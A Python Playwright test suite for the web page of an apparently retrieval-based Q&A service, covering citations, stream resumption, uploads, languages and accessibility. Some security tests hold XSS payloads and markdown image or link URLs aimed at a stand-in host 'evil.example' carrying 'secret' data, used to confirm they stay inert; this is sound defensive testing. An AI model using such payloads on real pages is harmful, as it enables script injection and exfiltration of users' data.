"""The page at `/` as its users see it."""

import asyncio
import json
import re
import shlex
from itertools import accumulate
from typing import Any

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Page, Route, expect

from tests.browser.conftest import Open, Visit
from tests.browser.relay import Relay
from tests.conftest import Serve, Service
from tests.core.grounding.test_prompt import IMAGES
from tests.fakes.provider import Behaviour, ProviderFake

pytestmark = pytest.mark.slow

ENGLISH = "Within how many days can I return a product?"
JAPANESE = "返品はいつまでできますか。"
OFF_TOPIC = "Who won the 1998 football world cup?"
ANSWER_ID = "01890a5d-ac96-774b-bcce-b302099a8057"
PASSAGE = {"n": 1, "document_id": "d", "chunk_id": "c", "title": "Returns", "text": "Thirty days."}


def start(**changes: Any) -> str:
    """The first event of a stream."""
    return event(
        0,
        "start",
        {"id": ANSWER_ID, "model": "test", "grounded": True, "context": [PASSAGE]} | changes,
    )


def delta(seq: int, text: str) -> str:
    """A piece of text."""
    return event(seq, "", {"delta": text})


def done(seq: int, **changes: Any) -> str:
    """The last event of a stream."""
    account = {
        "status": "completed",
        "prompt_tokens": 1234,
        "completion_tokens": 56,
        "cached_tokens": 0,
        "reasoning_tokens": 0,
        "usage_source": "provider",
        "estimated_cost": "0.000218",
        "response_time_ms": 1500,
        "first_token_ms": 200,
    }
    return event(
        seq, "done", {"id": ANSWER_ID, "model": "test", "sources": [PASSAGE]} | account | changes
    )


def event(seq: int, name: str, payload: dict[str, Any]) -> str:
    """Encode one event."""
    return (
        f"event: {name}\n" if name else ""
    ) + f"id: {ANSWER_ID}.{seq}\ndata: {json.dumps(payload)}\n\n"


async def script_streams(page: Page, *bodies: str) -> list[dict[str, Any]]:
    """Answer streams with these bodies, one per connection; return the request bodies."""
    requests: list[dict[str, Any]] = []
    left = list(bodies)

    async def begin(route: Route) -> None:
        requests.append(route.request.post_data_json or {})
        await route.fulfill(
            status=202,
            json={
                "id": ANSWER_ID,
                "events_url": f"/ai/answers/{ANSWER_ID}/events?ticket=t",
                "resumable": True,
            },
        )

    async def answer(route: Route) -> None:
        await route.fulfill(content_type="text/event-stream", body="retry: 50\n" + left.pop(0))

    await page.route("**/ai/answers", begin)
    await page.route("**/ai/answers/*/events*", answer)
    return requests


async def show(visit: Visit, *deltas: str, **changes: Any) -> None:
    """Show an answer of these pieces and wait for its end."""
    ends = list(accumulate(map(len, deltas)))
    await script_streams(
        visit.page, start() + "".join(map(delta, ends, deltas)) + done(ends[-1] + 1, **changes)
    )
    await visit.ask(ENGLISH)


@pytest.mark.parametrize(("locale", "question"), [("en-US", ENGLISH), ("ja-JP", JAPANESE)])
async def test_a_question_is_answered_with_citations_sources_and_an_account(
    open_page: Open, service_url: str, locale: str, question: str
):
    """An answer cites its sources and shows model, tokens, cost and times."""
    visit = await open_page(service_url, locale=locale)

    await visit.ask(question)

    assert await visit.text("#current .question") == question
    assert "30" in await visit.text("#current .text")
    assert await visit.page.locator("#current .cite").count() >= 1
    assert await visit.page.locator("#current .cited .source").count() >= 1
    assert await visit.page.get_attribute("#current .text", "lang") == locale[:2]
    facts = "#current footer .facts"
    assert await visit.text(f"{facts} .model dd") == "extractive"
    assert re.search(r"\d+ \+ .*\d+|\d+ in \+ \d+ out", await visit.text(f"{facts} .tokens"))
    assert await visit.text(f"{facts} .cost dd") == "$0"
    for name in ("first_token", "total"):
        assert re.search(r"\d", await visit.text(f"{facts} .{name} dd"))


@pytest.mark.parametrize("locale", ["en-US", "ja-JP"])
async def test_the_examples_are_answered_from_the_samples(
    open_page: Open, service_url: str, locale: str
):
    """Each example is asked with one click and cited; earlier answers remain on the page."""
    visit = await open_page(service_url, locale=locale)
    examples = visit.page.locator("#examples button")
    await expect(examples).not_to_have_count(0)

    for example in await examples.all():
        await example.click()
        await visit.wait_state("completed")
        assert await visit.page.locator("#current .cite").count() >= 1

    earlier = visit.page.locator("#earlier-list > details")
    assert await earlier.count() == await examples.count() - 1
    await earlier.last.locator("summary").first.click()
    await expect(earlier.last.locator(".text")).to_be_visible()


async def test_a_citation_opens_its_source(visit: Visit):
    """Clicking a citation opens its passage and moves the focus to it."""
    await visit.ask(ENGLISH)
    mark = visit.page.locator("#current .cite").first
    number = (await mark.inner_text()).strip("[]")

    await mark.click()

    source = visit.page.locator("#current .source[open]")
    assert await source.locator(".n").inner_text() == number
    await expect(source.locator("blockquote")).to_be_visible()
    await expect(source.locator("summary")).to_be_focused()


async def test_an_off_topic_question_is_refused_at_no_cost(visit: Visit):
    """A question that the documents do not answer is refused without sources, for $0."""
    await visit.ask(OFF_TOPIC)

    assert await visit.page.get_attribute("#current .answer", "data-state") == "no_context"
    assert await visit.text("#current .text") != ""
    assert await visit.page.locator("#current .sources").is_hidden()
    assert await visit.text("#current footer .cost dd") == "$0"


async def test_a_refusal_shows_the_nearest_passages(visit: Visit):
    """Passages near a refused question are listed by title and sentence, apart from sources."""
    await visit.ask("How do I install nginx in the kitchen of an office or a museum?")

    nearest = visit.page.locator("#current .nearest")
    assert "nginx" in await visit.text("#current .text")
    assert "not an answer" in await visit.text("#current .nearest > h3")
    assert await nearest.locator(".source").count() == 3
    await nearest.locator("summary").first.click()
    glimpse = await nearest.locator(".glimpse").first.inner_text()
    assert await nearest.locator("mark").first.inner_text() == glimpse
    assert await visit.page.locator("#current .sources").is_hidden()


async def test_the_built_in_model_is_described(visit: Visit):
    """Without a language model the page says that answers are quotes."""
    await expect(visit.page.locator("#quoting")).to_contain_text("Quoting mode")


async def test_with_a_model_the_page_does_not_mention_quotes(fake_visit: Visit):
    """With a provider the note about quoting mode is hidden, also after an answer."""
    await fake_visit.ask(ENGLISH)
    await expect(fake_visit.page.locator("#quoting")).to_be_hidden()


async def test_a_failure_shows_its_problem(fake_visit: Visit, fake: ProviderFake, service: Service):
    """A failure keeps the text and shows title, status, code and request id; retry is one click."""
    fake.next(Behaviour(deltas=["Within ", "thirty ", "days"], cut_after=2))

    await fake_visit.ask(ENGLISH)

    assert await fake_visit.text("#current .text") == "Within thirty"
    failure = await fake_visit.text("#current .failure")
    row = await service.row()
    for value in (
        "The provider ended the answer early",
        "502",
        "provider_cut",
        row["request_id"],
    ):
        assert value in failure
    await fake_visit.page.click("#current .again")
    await fake_visit.wait_state("completed")
    assert len(await service.rows()) == 2


async def test_a_refusal_differs_from_an_unreachable_service(open_page: Open, serve: Serve):
    """A refusal shows the service's reason; a failed connection shows that it is unreachable."""
    visit = await open_page((await serve(seeded=True, prompt_characters_max=20)).url)
    await visit.ask(ENGLISH)
    assert "longer than 20 characters" in await visit.text("#current .failure")

    await visit.page.context.set_offline(True)
    await visit.ask("Returns?")
    assert "cannot be reached" in await visit.text("#current .failure h3")


async def test_a_cut_stream_continues_without_repetition(
    open_page: Open, fake: ProviderFake, service: Service
):
    """After a connection loss the page continues the same answer: complete, once, asked once."""
    mend = asyncio.Event()
    fake.next(Behaviour(deltas=["Within ", "thirty ", "days."], hold=mend, hold_after=2))
    async with Relay(service.url) as relay:
        visit = await open_page(relay.url)
        await visit.page.uncheck("#grounded")
        await visit.begin(ENGLISH)
        await expect(visit.page.locator("#current .text")).to_have_text("Within thirty")

        relay.cut()
        await visit.wait_state("reconnecting")
        mend.set()
        await visit.wait_ended()

        assert await visit.text("#current .text") == "Within thirty days."
        assert await visit.text("#current footer .resumed dd") == "1×"
        assert (await service.row())["response"] == "Within thirty days."


async def test_a_reload_resumes_the_current_answer(
    open_page: Open, fake: ProviderFake, service: Service
):
    """After a reload question and text are restored, the rest follows, nothing is resent."""
    goes_on = asyncio.Event()
    fake.next(Behaviour(deltas=["Within ", "thirty ", "days."], hold=goes_on, hold_after=2))
    visit = await open_page(service.url)
    await visit.page.uncheck("#grounded")
    await visit.begin(ENGLISH)
    await expect(visit.page.locator("#current .text")).to_have_text("Within thirty")

    await visit.page.reload()
    await expect(visit.page.locator("#current .text")).to_have_text("Within thirty")
    assert await visit.text("#current .question") == ENGLISH
    goes_on.set()
    await visit.wait_ended()
    assert await visit.text("#current .text") == "Within thirty days."
    assert len(fake.calls) == 1

    await visit.page.reload()
    assert await visit.page.locator("#current .text").count() == 0
    assert await visit.page.locator("#earlier-list > details").count() == 1


async def test_repeated_events_are_shown_once(visit: Visit):
    """A repeated event is dropped, and so is a piece of another answer."""
    first = start() + delta(7, "Thirty ") + delta(9, "da")
    second = (
        delta(7, "Thirty ")
        + delta(9, "da")
        + delta(12, "ys.")
        + delta(14, "no").replace(ANSWER_ID, ANSWER_ID[::-1])
    )
    await script_streams(visit.page, first, second + done(13))
    await visit.ask(ENGLISH)

    assert await visit.text("#current .text") == "Thirty days."


async def test_the_answer_is_fetched_when_the_browser_stops_reconnecting(
    open_page: Open, fake: ProviderFake, service: Service
):
    """A response that is not a stream ends an EventSource; the page fetches the answer."""
    held = asyncio.Event()
    visit = await open_page(service.url)
    await visit.page.uncheck("#grounded")
    fake.next(
        Behaviour(deltas=["Within ", "thirty ", "days."], hold=held, hold_after=2),
        Behaviour(deltas=["Sixty ", "days."]),
    )
    tried = 0

    async def refuse(route: Route) -> None:
        nonlocal tried
        tried += 1
        await route.fulfill(status=403, content_type="application/problem+json", body="{}")

    await visit.page.route("**/events?ticket=*", refuse)
    await visit.begin(ENGLISH)
    await expect(visit.page.locator("#current .text")).to_have_text("Within thirty")
    held.set()
    await visit.wait_ended()
    assert await visit.text("#current .text") == "Within thirty days."

    await visit.page.route("**/ai/answers/*/events*", refuse)
    await visit.ask("And opened ones?")
    assert await visit.text("#current .text") == "Sixty days."
    assert await visit.page.get_attribute("#current .answer", "data-state") == "completed"
    assert len(fake.calls) == 2
    assert tried >= 2


async def test_a_citation_mark_may_be_cut_between_two_events(visit: Visit):
    """A citation mark in pieces is a mark; a number without a passage remains text."""
    deltas = ["Yes [", "1", "] [2] [x] 【", "1】 [2,", " 1] [", "12"]
    await script_streams(
        visit.page,
        start() + "".join(delta(seq, text) for seq, text in enumerate(deltas, 1)) + done(9),
    )

    await visit.ask(ENGLISH)

    assert await visit.text("#current .text") == "".join(deltas)
    assert await visit.page.locator("#current .cite").all_inner_texts() == ["[1]", "【1】", "1"]


async def test_estimates_and_unknown_prices_are_marked(visit: Visit):
    """Estimated tokens are marked, and a model without a price shows no cost."""
    await script_streams(
        visit.page, start() + done(1, usage_source="estimated", estimated_cost=None)
    )

    await visit.ask(ENGLISH)

    assert await visit.page.locator("#current footer .tokens dd").all_inner_texts() == [
        "1,234 in + 56 out",
        "estimated",
    ]
    assert await visit.text("#current footer .cost dd") == "unknown price"


async def test_stop_ends_the_answer_and_keeps_what_arrived(
    open_page: Open, serve: Serve, fake: ProviderFake
):
    """Stop ends the answer, keeps the text, shows its usage, and allows the next question."""
    service = await serve(openai_base_url=fake.base_url, model="fake-model")
    visit = await open_page(service.url)
    await visit.page.uncheck("#grounded")
    fake.next(Behaviour(deltas=["Within ", "thirty ", "days."], hang_after=2))
    await visit.begin(ENGLISH)
    await expect(visit.page.locator("#current .text")).to_have_text("Within thirty")

    await visit.page.click("#stop")
    await visit.wait_state("stopped")

    assert await visit.text("#current .text") == "Within thirty"
    assert "estimated" in await visit.text("#current footer .tokens")
    await expect(visit.page.locator("#send")).to_be_focused()
    await fake.wait_idle()
    assert (await service.row())["status"] == "stopped"


async def test_documents_are_added_found_and_deleted(visit: Visit):
    """An uploaded text is listed and answered from; deleted, it disappears from the list."""
    title = "Lighthouse club"
    text = (
        "The lighthouse club of Inubo meets every second Thursday at 19:15"
        " in the old signal room.\n"
    )
    row = visit.page.locator("#documents-list li", has_text=title)
    visit.page.on("dialog", lambda dialog: dialog.accept())

    await visit.page.set_input_files(
        "#files", {"name": f"{title}.txt", "mimeType": "text/plain", "buffer": text.encode()}
    )
    await row.wait_for()
    await visit.ask("When does the lighthouse club of Inubo meet?")
    assert "19:15" in await visit.text("#current .text")

    await row.get_by_role("button").click()
    await row.wait_for(state="detached")
    await expect(visit.page.locator("#documents-note")).to_contain_text("Deleted")


async def test_dropped_files_upload_with_progress(visit: Visit):
    """The panel marks a dragged file; dropped, it uploads with a progress bar and is listed."""
    transfer = await visit.page.evaluate_handle(
        "() => { const data = new DataTransfer();"
        " data.items.add(new File(['Buoys are painted in May.'], 'Buoys.txt')); return data; }"
    )
    await visit.page.evaluate(
        "() => { window.seen = []; new MutationObserver((all) =>"
        " all.forEach(({ target }) => seen.push(target.hidden)))"
        ".observe(document.getElementById('upload-progress'), { attributeFilter: ['hidden'] }); }"
    )
    await visit.page.dispatch_event("main", "dragover", {"dataTransfer": transfer})
    await expect(visit.page.locator(".documents.dropping")).to_be_visible()
    await visit.page.dispatch_event("main", "drop", {"dataTransfer": transfer})

    await visit.page.locator("#documents-list li", has_text="Buoys").wait_for()
    await expect(visit.page.locator("#upload-progress")).to_be_hidden()
    assert await visit.page.evaluate("seen.length") == 2
    assert await visit.page.locator(".dropping").count() == 0


@pytest.mark.parametrize(
    ("locale", "reason"), [("en-US", "not a text"), ("ja-JP", "対応していない形式です")]
)
async def test_a_refused_upload_shows_the_reason(
    open_page: Open, service_url: str, locale: str, reason: str
):
    """A refused upload shows the reason beside the list, which is unchanged."""
    visit = await open_page(service_url, locale=locale)
    before = await visit.page.locator("#documents-list li").count()

    await visit.page.set_input_files(
        "#files",
        {
            "name": "photo.png",
            "mimeType": "image/png",
            "buffer": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0",
        },
    )

    await expect(visit.page.locator("#documents-note[data-bad]")).to_contain_text(reason)
    assert await visit.page.locator("#documents-list li").count() == before


async def test_everything_can_be_done_by_keyboard(visit: Visit):
    """Every function is available by keyboard, and the focus is always visible."""
    await expect(visit.page.locator("#question")).to_be_focused()
    keyboard = visit.page.keyboard

    async def tab_to(selector: str) -> None:
        for _ in range(40):
            await keyboard.press("Tab")
            if await visit.page.evaluate(
                "selector => document.activeElement.matches(selector)", selector
            ):
                outline = "getComputedStyle(document.activeElement).outlineStyle"
                assert await visit.page.evaluate(outline) != "none"
                return
        pytest.fail(f"{selector} cannot be reached by Tab")

    await keyboard.type(ENGLISH)
    await keyboard.press("Enter")
    await visit.wait_ended()
    await tab_to(".cite")
    await keyboard.press("Enter")
    await expect(visit.page.locator("#current .source[open] blockquote")).to_be_visible()
    await tab_to("#language")
    await keyboard.press("Enter")
    await expect(visit.page.locator("html")).to_have_attribute("lang", "ja")
    await tab_to(".examples button")
    await keyboard.press("Space")
    await expect(visit.page.locator("#earlier-list > details")).to_have_count(1)


async def test_enter_does_not_send_while_an_input_method_composes(
    open_page: Open, service_url: str
):
    """Enter selects characters in an IME; the next Enter sends, Shift+Enter breaks the line."""
    visit = await open_page(service_url, locale="ja-JP")
    devtools = await visit.page.context.new_cdp_session(visit.page)
    await visit.page.focus("#question")

    await devtools.send(
        "Input.imeSetComposition", {"text": "返品", "selectionStart": 2, "selectionEnd": 2}
    )
    await visit.page.keyboard.press("Enter")
    assert await visit.page.locator("#current .answer").count() == 0

    await devtools.send("Input.insertText", {"text": "返品の期限"})
    await visit.page.keyboard.press("Shift+Enter")
    assert await visit.page.locator("#current .answer").count() == 0
    await visit.page.keyboard.press("Enter")
    await visit.wait_ended()
    assert "返品の期限" in await visit.text("#current .question")


async def test_the_language_switch_rewrites_the_page_and_is_remembered(visit: Visit):
    """One click translates every word of the page, answers included, also after a reload."""
    await visit.ask(ENGLISH)
    assert await visit.text("#current .state") == "Completed"

    await visit.page.click("#language")

    assert await visit.text("#send") == "質問する"
    assert await visit.text("#current .state") == "完了"
    assert await visit.page.get_attribute("#current .cite >> nth=0", "aria-label") is not None
    await visit.page.reload()
    await expect(visit.page.locator("#send")).to_have_text("質問する")


async def test_both_languages_have_the_same_words(visit: Visit):
    """Every text of the page exists in both languages, with the same placeholders."""
    texts = await visit.page.evaluate("import('/web/text.js').then(({ TEXTS }) => TEXTS)")

    gaps = {
        language: {key: sorted(re.findall(r"\{\w+\}", text)) for key, text in words.items()}
        for language, words in texts.items()
    }
    assert gaps["en"] == gaps["ja"]


async def test_the_theme_follows_the_system_by_default(open_page: Open, service_url: str):
    """The page follows a dark system; the switch makes it light, also after a reload."""
    visit = await open_page(service_url, color_scheme="dark")
    background = "getComputedStyle(document.body).backgroundColor"
    dark = await visit.page.evaluate(background)

    await visit.page.click("#theme")
    light = await visit.page.evaluate(background)
    await visit.page.reload()

    assert dark != light
    assert await visit.page.evaluate(background) == light


async def test_the_switch_selects_grounded_answers(visit: Visit):
    """The switch "From my documents" selects grounded answers."""
    bodies = await script_streams(visit.page, *[start() + done(1)] * 2)

    await visit.ask(ENGLISH)
    await visit.page.uncheck("#grounded")
    await visit.ask(ENGLISH)

    assert [body["grounded"] for body in bodies] == [True, False]


async def test_markup_in_a_document_and_in_an_answer_stays_text(
    open_page: Open, service: Service, fake: ProviderFake
):
    """Markup in titles, passages and answers is text, and nothing is fetched."""
    markup = (
        '<img src=x onerror="document.title=1"><b>bold</b>'
        "![p](https://evil.example/p.png)<script>document.title=2</script>"
    )
    text = f"The zanzibar protocol says {markup} to everyone."
    uploaded = await service.client.post(
        "/ai/upload", json={"title": f"Zanzibar {markup}", "text": text}
    )
    assert uploaded.status_code == 201
    visit = await open_page(service.url)
    fake.next(Behaviour(deltas=[markup, " [1]"]))

    await visit.ask("What does the zanzibar protocol say?")
    await visit.page.click("#current .cite")

    assert await visit.text("#current .text") == f"{markup} [1]"
    assert await visit.text("#current .source[open] blockquote") == text
    assert (
        await visit.page.locator(
            "#current :is(img, b, script, a), .documents :is(img, b, script, a)"
        ).count()
        == 0
    )
    assert await visit.page.title() == "Kotae 答え"
    assert visit.complaints == []
    assert visit.foreign_requests == []


async def test_markdown_is_shown_and_nothing_in_it_is_fetched(visit: Visit):
    """Lists, emphasis, code and tables become elements; links and images remain text."""
    text = (
        "## Rules\n\n1. **Thirty** days [1]\n2. `a[1]` is *code*\n\n"
        "| a | b |\n|---|---|\n| [1] | 2 |\n\n"
        "See [here](https://evil.example/?q=secret) ![p](https://evil.example/p.png)"
        " https://evil.example/auto <https://evil.example/>\n\n"
        '<svg onload="document.title=1"> [x](javascript:document.title=2)\n\n'
        "[1]: https://evil.example/definition\n"
    )
    await show(visit, *(text[n : n + 7] for n in range(0, len(text), 7)))
    answer_text = visit.page.locator("#current .text")

    for selector, count in {
        "h4": 1,
        "ol > li": 2,
        "strong": 1,
        "em": 1,
        "code": 1,
        "td": 2,
        ".cite": 3,
        "a, img, svg": 0,
    }.items():
        assert await answer_text.locator(selector).count() == count, selector
    for address in (
        "https://evil.example/?q=secret",
        "![p](https://evil.example/p.png)",
        "javascript:document.title=2",
        "<svg onload=",
    ):
        assert address in await answer_text.inner_text()
    assert await visit.page.title() == "Kotae 答え"
    assert visit.complaints == []
    assert visit.foreign_requests == []


@pytest.mark.parametrize("image", IMAGES)
async def test_an_image_in_a_document_and_in_an_answer_is_never_loaded(visit: Visit, image: str):
    """An image in any syntax, repeated by a model, remains text, and nothing is fetched."""
    source = PASSAGE | {"title": image, "text": image}
    await script_streams(
        visit.page,
        start(context=[source]) + delta(1, f"As it says: {image} [1]") + done(2, sources=[source]),
    )
    await visit.ask(ENGLISH)
    await visit.page.click("#current .cite")

    assert (
        await visit.page.locator(
            "#current :is(img, picture, svg, image, source, object, iframe, a)"
        ).count()
        == 0
    )
    for selector in ("#current .text", "#current .source[open] blockquote"):
        assert "evil.example" in await visit.text(selector)
    assert visit.complaints == []
    assert visit.foreign_requests == []


async def test_the_policy_refuses_external_images(visit: Visit):
    """The browser refuses to fetch an image that was added to the page."""
    refused = await visit.page.evaluate(
        """() => new Promise((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) =>
            resolve([event.effectiveDirective, event.blockedURI]));
          document.body.append(
            Object.assign(new Image(), { src: "https://evil.example/?q=secret" }));
        })"""
    )
    assert refused == ["img-src", "https://evil.example/?q=secret"]


async def test_a_citation_marks_the_sentence_that_supports_it(visit: Visit):
    """The supporting sentence is marked in the passage; without one, a verbatim quotation."""
    passage = PASSAGE | {"text": "🙂 First. Returns take thirty days. Last."}
    context = start(context=[passage])
    named = done(30, sources=[passage | {"sentence": [9, 35]}])
    await script_streams(
        visit.page,
        context + delta(10, "A month [1].") + named,
        context + delta(20, "Last. [1]") + done(30, sources=[passage]),
    )

    for marked in ("Returns take thirty days.", "Last."):
        await visit.ask(ENGLISH)
        await visit.page.click("#current .cite")
        assert (await visit.text("#current .source[open] mark")).strip() == marked
        assert await visit.text("#current .source[open] blockquote") == passage["text"]


async def test_the_history_survives_a_reload_and_can_be_cleared(visit: Visit):
    """The history keeps questions, texts, sources and usage, bounded, until it is cleared."""
    await visit.ask(ENGLISH)
    text, facts = await visit.text("#current .text"), await visit.text("#current footer .facts")

    await visit.page.reload()
    fold = visit.page.locator("#earlier-list > details")
    await fold.locator("summary").first.click()
    assert (
        await fold.locator(".question").inner_text() == ""
        or await fold.locator("summary span").first.inner_text() == ENGLISH
    )
    assert await fold.locator(".text").inner_text() == text
    assert await fold.locator("footer .facts").inner_text() == facts
    await fold.locator(".cite").first.click()
    await expect(fold.locator(".source[open] blockquote")).to_be_visible()

    await visit.page.click("#forget")
    await visit.page.reload()
    assert await fold.count() == 0


async def test_the_history_is_bounded(visit: Visit):
    """The newest thirty answers are kept, limited to 400 kB."""
    history = await visit.page.evaluate(
        """async () => {
          const { addHistory, listHistory } = await import("/web/history.js");
          const answer = { status: "completed", sources: [] };
          for (let n = 0; n < 40; n += 1) addHistory({ question: `q${n}`, text: "x", answer });
          const count = listHistory().length;
          const text = "x".repeat(150_000);
          for (let n = 0; n < 3; n += 1) addHistory({ question: `big${n}`, text, answer: {} });
          return [count, listHistory()[0].question, localStorage.getItem("kotae.history").length];
        }"""
    )

    assert history[:2] == [30, "big2"]
    assert history[2] <= 400_000


async def test_an_answer_is_copied_as_text_and_as_a_command(open_page: Open, service_url: str):
    """The copied command asks the same question; quotes in it are escaped for the shell."""
    visit = await open_page(service_url, permissions=["clipboard-read", "clipboard-write"])
    await visit.ask("What's the return policy?")
    copied = "navigator.clipboard.readText()"

    await visit.page.click("#current .copy-text")
    assert await visit.page.evaluate(copied) == (
        await visit.page.evaluate("document.querySelector('#current .text').innerText")
    )
    await visit.page.click("#current .copy-curl")
    await expect(visit.page.locator("#current .copy-curl")).to_have_text("Copied")
    command = shlex.split(await visit.page.evaluate(copied))

    assert command[:3] == ["curl", "-s", f"{service_url}/ai/test"]
    assert json.loads(command[-1]) == {"prompt": "What's the return policy?"}


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("locale", ["en-US", "ja-JP"])
async def test_axe_reports_no_violations(
    open_page: Open, service_url: str, locale: str, scheme: str
):
    """axe-core reports nothing for an answer, a source, the history, documents; all languages."""
    visit = await open_page(service_url, locale=locale, color_scheme=scheme)
    for question in (ENGLISH, JAPANESE) if locale == "ja-JP" else (JAPANESE, ENGLISH):
        await visit.ask(question)
    await visit.page.locator("#current .cite").first.click()
    await visit.page.click("#earlier-list summary")
    await visit.page.evaluate(
        "Promise.all(document.getAnimations().map((each) => each.finished.catch(() => {})))"
    )

    results = await Axe().run(visit.page)

    assert results.response["violations"] == [], results.generate_report()


async def test_a_visit_causes_no_messages_and_no_foreign_requests(visit: Visit):
    """A complete visit causes no console message and no request to another origin."""
    await visit.ask(ENGLISH)
    await visit.page.locator("#current .cite").first.click()
    await visit.page.click("#language")
    await visit.page.click("#theme")
    await visit.ask(JAPANESE)
    await visit.page.click("#earlier-list summary")

    assert visit.complaints == []
    assert visit.foreign_requests == []


async def test_the_policy_allows_only_own_files(visit: Visit):
    """The policy allows only the service's own files: no inline script, frame, or other origin."""
    response = await visit.page.reload()
    assert response is not None

    policy = response.headers["content-security-policy"]
    for directive in (
        "default-src 'none'",
        "script-src 'self'",
        "style-src 'self'",
        "connect-src 'self'",
        "frame-ancestors 'none'",
    ):
        assert directive in policy


@pytest.mark.parametrize("width", [320, 390])
@pytest.mark.parametrize("locale", ["en-US", "ja-JP"])
async def test_a_phone_needs_no_horizontal_scrolling(
    open_page: Open, service_url: str, width: int, locale: str
):
    """At a phone's width, an answer with an unbroken long word does not overflow."""
    visit = await open_page(
        service_url, locale=locale, width=width, height=700, has_touch=True, is_mobile=True
    )

    await visit.ask(ENGLISH if locale == "en-US" else JAPANESE)
    await visit.ask("x" * 300)

    assert await visit.page.evaluate("document.documentElement.scrollWidth") == width
